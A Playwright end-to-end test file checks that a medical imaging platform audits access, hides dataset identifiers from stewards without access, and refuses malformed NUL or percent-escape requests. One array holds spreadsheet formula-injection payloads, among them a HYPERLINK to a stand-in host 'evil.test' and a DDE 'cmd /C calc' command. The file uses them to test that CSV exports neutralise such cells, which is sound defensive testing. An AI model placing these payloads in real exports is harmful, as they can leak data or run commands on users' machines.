import { parse } from "csv-parse/sync";
import { sql } from "drizzle-orm";
import type { APIRequestContext } from "@playwright/test";
import { createUser, credentialMember } from "@/lib/factories";
import { testDb, type Persona } from "./support/db";
import { expect, loginAs, test } from "./support/fixtures";
import { E2E_CXR, E2E_JPG, E2E_VIEWER } from "./support/mimic-data";

// Issue 13, the audit log's readers: looking is audited, a steward without access to a dataset version
// reads none of its identifiers, malformed requests are refused (and audited) instead of crashing or
// hanging, and no CSV export carries a cell a spreadsheet would run.

const HIDDEN = `[hidden: no access to ${E2E_CXR.slug} ${E2E_CXR.version}]`;
const STUDY = String(E2E_VIEWER.study);
const DICOM = E2E_VIEWER.dicom[0].dicomId;
const SEARCH = "pleural effusion";

async function auditCount(where: ReturnType<typeof sql>): Promise<number> {
  const r = await testDb().execute<{ n: string }>(sql`select count(*) as n from audit_log where ${where}`);
  return Number(r.rows[0]!.n);
}

async function exportCsv(request: APIRequestContext, query = ""): Promise<string[][]> {
  const res = await request.get(`/api/audit/export${query}`, { timeout: 10_000 });
  expect(res.status()).toBe(200);
  return parse(await res.text(), { relax_column_count: true }) as string[][];
}

/** A second steward who holds everything the access rule asks for both e2e datasets. */
async function credentialedSteward(lab: { lab: { id: string }; admin: Persona; datasetIds: Record<string, string> }): Promise<Persona> {
  const u = await createUser(testDb(), { labId: lab.lab.id, role: "steward" });
  await credentialMember(testDb(), { labId: lab.lab.id, userId: u.id, stewardId: lab.admin.id, datasetIds: Object.values(lab.datasetIds) });
  return { id: u.id, email: u.email, name: u.name, role: u.role, password: u.password!, labId: lab.lab.id };
}

test("requests with invalid percent-escapes or NUL bytes answer 400, are audited as refusals, also when dozens arrive at once", async ({ page, lab, login }) => {
  await login("researcher");
  const paths = [
    `/api/datasets/${E2E_CXR.slug}/${E2E_CXR.version}/images/%E0%A4%A`,
    `/api/datasets/${E2E_CXR.slug}/${E2E_CXR.version}/images/%00`,
    `/api/downloads/files/${E2E_CXR.slug}/${E2E_CXR.version}/files/%00`,
    "/datasets/%zz",
    "/%00",
    `/datasets/${E2E_CXR.slug}/${E2E_CXR.version}?q=%00`,
  ];
  for (const p of paths) {
    const res = await page.request.get(p, { timeout: 10_000 });
    expect(res.status(), p).toBe(400);
    expect(await res.text(), p).toMatch(/Bad request: (invalid percent-escape|NUL character)/);
  }
  expect(await auditCount(sql`actor_id = ${lab.researcher.id} and action = 'request.refused' and outcome = 'denied'`)).toBe(paths.length);

  const burst = await Promise.all(Array.from({ length: 30 }, (_, i) => page.request.get(`/api/datasets/${E2E_CXR.slug}/${E2E_CXR.version}/thumbnails/%E0%A4%${i}`, { timeout: 15_000 })));
  expect(burst.map((r) => r.status())).toEqual(Array(30).fill(400));
  expect(await auditCount(sql`actor_id = ${lab.researcher.id} and action = 'request.refused'`)).toBe(paths.length + 30);
  // A well-formed request still works.
  expect((await page.request.get(`/api/datasets/${E2E_CXR.slug}/${E2E_CXR.version}/thumbnails/${DICOM}`)).status()).toBe(200);
});

test("the audit export with a NUL in its filter answers at once instead of hanging", async ({ page, lab, login }) => {
  await login("steward");
  const started = Date.now();
  const res = await page.request.get("/api/audit/export?action=%00", { timeout: 10_000 });
  expect(res.status()).toBe(400);
  expect(Date.now() - started).toBeLessThan(5_000);
  expect((await page.request.get("/audit?actor=%00", { timeout: 10_000 })).status()).toBe(400);
  expect(await auditCount(sql`actor_id = ${lab.steward.id} and action = 'request.refused'`)).toBe(2);
  // The same export without the NUL streams to its end.
  expect((await exportCsv(page.request, "?action=auth."))[0]![0]).toBe("id");
});

test("looking at audit data is itself audited: the page, the CSV export and a member timeline", async ({ page, lab, login }) => {
  await login("steward");
  await page.goto(`/audit?actor=${encodeURIComponent(lab.steward.email)}&outcome=ok`);
  await expect(page.getByTestId("audit-table")).toBeVisible();
  const view = await testDb().execute<{ details: { filter: Record<string, unknown>; rows: number } }>(sql`select details from audit_log where actor_id = ${lab.steward.id} and action = 'audit.view' order by id desc limit 1`);
  expect(view.rows[0]!.details.filter).toMatchObject({ actor: lab.steward.email, outcome: "ok" });

  const rows = await exportCsv(page.request, "?action=audit.view");
  const exp = await testDb().execute<{ details: { filter: Record<string, unknown>; rows: number } }>(sql`select details from audit_log where actor_id = ${lab.steward.id} and action = 'audit.export'`);
  expect(exp.rows).toHaveLength(1);
  expect(exp.rows[0]!.details).toMatchObject({ filter: { action: "audit.view" }, rows: rows.length - 1 });

  expect((await page.goto(`/members/${lab.researcher.id}/timeline`))!.status()).toBe(200);
  expect(await auditCount(sql`actor_id = ${lab.steward.id} and action = 'member.timeline_view' and target_type = 'user' and target_id = ${lab.researcher.id}`)).toBe(1);
  // Reading the timeline is not a change to the member: it is not listed in the timeline itself.
  await page.reload();
  await expect(page.locator("[data-action='member.timeline_view']")).toHaveCount(0);
});

test("a steward without access to a dataset version reads no identifiers of it in the audit page, export or timeline; one with access does", async ({ page, lab, login }) => {
  test.setTimeout(120_000);
  await login("researcher");
  expect((await page.goto(`/datasets/${E2E_CXR.slug}/${E2E_CXR.version}?q=${encodeURIComponent(SEARCH)}`))!.status()).toBe(200);
  expect((await page.goto(`/datasets/${E2E_CXR.slug}/${E2E_CXR.version}/studies/${STUDY}`))!.status()).toBe(200);
  expect((await page.request.get(`/api/datasets/${E2E_CXR.slug}/${E2E_CXR.version}/thumbnails/${DICOM}`)).status()).toBe(200);
  const only = `?actor=${encodeURIComponent(lab.researcher.email)}`;
  const secrets = [STUDY, DICOM, "pleural"];

  await page.context().clearCookies();
  await login("steward"); // holds no access to MIMIC-CXR 2.0.0
  await page.goto(`/audit${only}`);
  const table = page.getByTestId("audit-table");
  await expect(table).toContainText("image.thumbnail");
  await expect(table).toContainText("study.view");
  await expect(table).toContainText("dataset.browse");
  await expect(table).toContainText(HIDDEN);
  const pageText = await table.innerText();
  for (const s of secrets) expect(pageText, s).not.toContain(s);
  const csv = await exportCsv(page.request, only);
  const thumb = csv.find((r) => r[3] === "image.thumbnail")!;
  expect(thumb).toBeDefined();
  expect(thumb[2]).toBe(lab.researcher.email);
  expect(thumb[5]).toBe(HIDDEN);
  const browse = csv.find((r) => r[3] === "dataset.browse")!;
  expect(JSON.parse(browse[8]!)).toMatchObject({ query: HIDDEN, studies: expect.any(Number) });
  for (const s of secrets) expect(JSON.stringify(csv), s).not.toContain(s);
  const timeline = await page.goto(`/members/${lab.researcher.id}/timeline`);
  expect(timeline!.status()).toBe(200);
  for (const s of secrets) expect(await page.content(), s).not.toContain(s);

  const seeing = await credentialedSteward(lab);
  await page.context().clearCookies();
  await loginAs(page, seeing);
  await page.goto(`/audit${only}`);
  await expect(page.getByTestId("audit-table")).toContainText(DICOM);
  await expect(page.getByTestId("audit-table")).not.toContainText(HIDDEN);
  const seen = JSON.stringify(await exportCsv(page.request, only));
  for (const s of secrets) expect(seen, s).toContain(s);
});

const FORMULAS = ['=HYPERLINK("http://evil.test/?x","open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"];
const neutralised = (cell: string | undefined) => typeof cell === "string" && cell.startsWith("'") && FORMULAS.includes(cell.slice(1));

test("every CSV export neutralises formula cells: access matrix, audit log, cohort", async ({ page, lab, login }) => {
  test.setTimeout(120_000);
  const db = testDb();
  for (const name of FORMULAS) await createUser(db, { labId: lab.lab.id, role: "member", name });
  // An e-mail address may start with + or -: it lands in the audit export's actor column.
  const plus = await createUser(db, { labId: lab.lab.id, role: "member", email: `+cmd-${Date.now()}@evil.test` });
  const minus = await createUser(db, { labId: lab.lab.id, role: "member", email: `-2+3-${Date.now()}@evil.test` });
  for (const u of [plus, minus]) await loginAs(page, { email: u.email, password: u.password! });
  await page.context().clearCookies();

  await login("steward");
  const matrix = parse(await (await page.request.get("/api/stewardship/access/export")).text(), { relax_column_count: true }) as string[][];
  const names = matrix.slice(1).map((r) => r[0]);
  for (const f of FORMULAS) expect(names, JSON.stringify(f)).toContain(`'${f}`);
  expect(names.filter((n) => n && /^[=+\-@\t\r]/.test(n))).toEqual([]);

  const audit = await exportCsv(page.request, "?action=auth.sign_in");
  const actors = audit.slice(1).map((r) => r[2]);
  expect(actors).toContain(`'${plus.email}`);
  expect(actors).toContain(`'${minus.email}`);
  expect(audit.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);

  await page.context().clearCookies();
  await login("researcher");
  const name = `Edema,${FORMULAS.join(",")}`;
  const saved = await page.request.post(`/api/datasets/${E2E_JPG.slug}/${E2E_JPG.version}/cohorts`, { data: { name, query: "" } });
  expect(saved.status()).toBe(200);
  const { id } = (await saved.json()) as { id: string };
  const text = await (await page.request.get(`/api/datasets/${E2E_JPG.slug}/${E2E_JPG.version}/cohorts/${id}/export`)).text();
  // Spreadsheets split the comment lines above the table at commas too: no piece may start a formula.
  const pieces = text.split("\n").flatMap((l) => l.split(/[,;\t]/));
  expect(pieces.filter((p) => /^\s*"?[=+@]/.test(p) || /^\s*"?-(?!\d+(\.\d+)?$)/.test(p))).toEqual([]);
  expect(pieces.some((p) => neutralised(p.replace(/"$/, "")))).toBe(true);
  // Real numbers stay numbers: CheXpert's uncertain label is still -1.0.
  expect(text).toMatch(/,-1\.0(,|\n)/);
});
